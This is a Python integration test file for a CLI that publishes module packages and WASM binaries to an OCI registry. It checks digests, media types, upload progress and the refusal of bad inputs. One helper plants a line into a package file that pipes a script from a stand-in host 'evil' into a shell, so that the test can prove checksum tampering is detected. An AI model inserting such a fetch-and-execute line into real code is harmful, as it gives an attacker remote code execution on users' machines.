"""``adx-module-cli publish`` against the stack's real registry and apiserver: a package and a
WASM binary are pushed as OCI artifacts with their media types, the printed Module pins them by
digest and the cluster accepts it, and what is fetched by that digest is the very bytes
published. Bad artifacts and an unreachable registry are refused naming what is wrong."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path

import httpx
import pytest
import yaml

from adx_modules.api.artifacts import ARTIFACT_TYPE, PACKAGE_LAYER, WASM_LAYER
from adx_modules.authoring.errors import BAD_INPUT, OK
from adx_modules.authoring.publish import progress_bar, publish
from adx_modules.service.cli import author_main
from support.kube import Kubectl
from support.stack import StackInfo

MANIFEST_TYPE = "application/vnd.oci.image.manifest.v1+json"
WASM = b"\0asm\x01\0\0\0"  # the smallest valid module


def cli(*argv: str) -> int:
    return author_main(list(argv))


def package(directory: Path, output: Path) -> Path:
    assert cli(
        "package", "--manifest", str(directory / "manifest.json"), "--output", str(output)
    ) == (OK)
    return output


def fetch(address: str, reference: str) -> tuple[dict[str, object], bytes]:
    """The manifest and the one layer of ``registry/repository@digest``."""
    repository, _, digest = reference.removeprefix(f"{address}/").partition("@")
    base = f"http://{address}/v2/{repository}"
    manifest = httpx.get(f"{base}/manifests/{digest}", headers={"Accept": MANIFEST_TYPE})
    assert manifest.status_code == 200
    assert f"sha256:{hashlib.sha256(manifest.content).hexdigest()}" == digest
    layer = manifest.json()["layers"][0]
    blob = httpx.get(f"{base}/blobs/{layer['digest']}", follow_redirects=True).content
    return manifest.json(), blob


def published_module(capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    out = capsys.readouterr().out
    return next(doc for doc in yaml.safe_load_all(out) if doc and doc.get("kind") == "Module")


def test_a_package_is_pushed_pinned_and_accepted(
    stack: StackInfo, tmp_path: Path, unique: str, capsys: pytest.CaptureFixture[str]
) -> None:
    address = stack.env["ADX_REGISTRY_ADDRESS"]
    module_id = f"pub-{unique}"
    directory = tmp_path / module_id
    assert cli("init", module_id, "--dir", str(directory)) == OK
    built = package(directory, tmp_path / "m.adx")
    capsys.readouterr()
    assert cli("publish", str(built), "--registry", address, "--insecure") == OK
    module = published_module(capsys)
    artifact = module["spec"]["artifact"]["package"]  # type: ignore[index]
    assert artifact["oci"].startswith(f"{address}/adx-modules/{module_id}@sha256:")
    assert artifact["sha256"] == hashlib.sha256(built.read_bytes()).hexdigest()
    manifest, blob = fetch(address, artifact["oci"])
    assert manifest["artifactType"] == ARTIFACT_TYPE
    assert manifest["layers"][0]["mediaType"] == PACKAGE_LAYER  # type: ignore[index]
    assert blob == built.read_bytes()
    # the tag names the version (for people); the Module names the digest (for machines)
    tagged = httpx.get(
        f"http://{address}/v2/adx-modules/{module_id}/manifests/0.1.0",
        headers={"Accept": MANIFEST_TYPE},
    )
    assert tagged.headers["Docker-Content-Digest"] == artifact["oci"].partition("@")[2]
    Kubectl(stack.kubeconfig).apply(module)  # the cluster's schema takes it as printed
    assert module["metadata"]["name"] == f"{module_id}-0-1-0"  # type: ignore[index]


def test_a_wasm_binary_is_pushed_with_the_wasm_media_types(
    stack: StackInfo, tmp_path: Path, unique: str, capsys: pytest.CaptureFixture[str]
) -> None:
    address = stack.env["ADX_REGISTRY_ADDRESS"]
    directory = tmp_path / "w"
    assert cli("init", f"wasm-{unique}", "--dir", str(directory)) == OK
    manifest_path = directory / "manifest.json"
    manifest_path.write_text(
        json.dumps({**json.loads(manifest_path.read_text()), "runtime": "wasm"})
    )
    binary = tmp_path / "module.wasm"
    binary.write_bytes(WASM)
    output = tmp_path / "module.yaml"
    capsys.readouterr()
    argv = ["publish", str(binary), "--registry", address, "--insecure"]
    assert cli(*argv, "--manifest", str(manifest_path), "--output", str(output)) == OK
    module = yaml.safe_load(output.read_text())
    wasm = module["spec"]["artifact"]["wasm"]
    manifest, blob = fetch(address, wasm["oci"])
    assert manifest["layers"][0]["mediaType"] == WASM_LAYER  # type: ignore[index]
    assert manifest["config"]["mediaType"] == "application/vnd.wasm.config.v0+json"  # type: ignore[index]
    assert blob == WASM
    Kubectl(stack.kubeconfig).apply(module)


def custom_section(payload: bytes) -> bytes:
    """A WASM custom section named ``x`` holding ``payload`` (size as unsigned LEB128)."""
    body = b"\x01x" + payload
    size, length = bytearray(), len(body)
    while True:
        byte, length = length & 0x7F, length >> 7
        size.append(byte | (0x80 if length else 0))
        if not length:
            break
    return b"\x00" + bytes(size) + body


def test_a_push_reports_its_progress_chunk_by_chunk(
    stack: StackInfo, tmp_path: Path, unique: str
) -> None:
    directory = tmp_path / "big"
    assert cli("init", "big", "--dir", str(directory)) == OK
    manifest_path = directory / "manifest.json"
    manifest_path.write_text(
        json.dumps({**json.loads(manifest_path.read_text()), "runtime": "wasm"})
    )
    binary = tmp_path / "big.wasm"
    payload = unique.encode() + bytes(range(256)) * 12_000  # about 3 MiB, new to the registry
    binary.write_bytes(WASM + custom_section(payload))
    seen: list[tuple[int, int]] = []
    published = publish(
        binary,
        stack.env["ADX_REGISTRY_ADDRESS"],
        insecure=True,
        manifest=manifest_path,
        progress=lambda sent, total: seen.append((sent, total)),
    )
    total = binary.stat().st_size
    assert len(seen) >= 3  # 1 MiB chunks
    assert [sent for sent, _ in seen] == sorted(sent for sent, _ in seen)
    assert seen[-1] == (total, total)
    _, blob = fetch(stack.env["ADX_REGISTRY_ADDRESS"], published.reference)
    assert blob == binary.read_bytes()
    assert progress_bar(3 * 2**19, 3 * 2**20, width=10) == "[#####.....]  50%  1.5/3.0 MiB"


def tampered(package: Path, target: Path) -> Path:
    """The package with one code file changed but its checksums left as they were."""
    with tarfile.open(package) as source, tarfile.open(target, "w:gz") as copy:
        for member in source.getmembers():
            data = source.extractfile(member).read()  # type: ignore[union-attr]
            if member.name == "code/src/module.py":
                data += b"\nimport os; os.system('curl evil | sh')\n"
                member.size = len(data)
            copy.addfile(member, io.BytesIO(data))
    return target


def test_bad_artifacts_and_registries_are_refused_naming_them(
    stack: StackInfo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    address = stack.env["ADX_REGISTRY_ADDRESS"]
    directory = tmp_path / "bad"
    assert cli("init", "bad", "--dir", str(directory)) == OK
    built = package(directory, tmp_path / "bad.adx")
    not_wasm = tmp_path / "x.wasm"
    not_wasm.write_bytes(b"#!/bin/sh\n")
    cases = [
        (
            [str(tampered(built, tmp_path / "t.adx"))],
            "code/src/module.py does not match its checksum",
        ),
        (
            [str(not_wasm), "--manifest", str(directory / "manifest.json")],
            "not a WebAssembly binary",
        ),
        ([str(not_wasm)], "a .wasm needs --manifest"),
        ([str(directory / "manifest.json")], "publish takes an .adx package or a .wasm"),
    ]
    for argv, expected in cases:
        capsys.readouterr()
        assert cli("publish", *argv, "--registry", address, "--insecure") == BAD_INPUT
        assert expected in capsys.readouterr().err
    capsys.readouterr()
    assert cli("publish", str(built), "--registry", "127.0.0.1:1", "--insecure") == BAD_INPUT
    assert "cannot push: 127.0.0.1:1: the registry does not answer" in capsys.readouterr().err
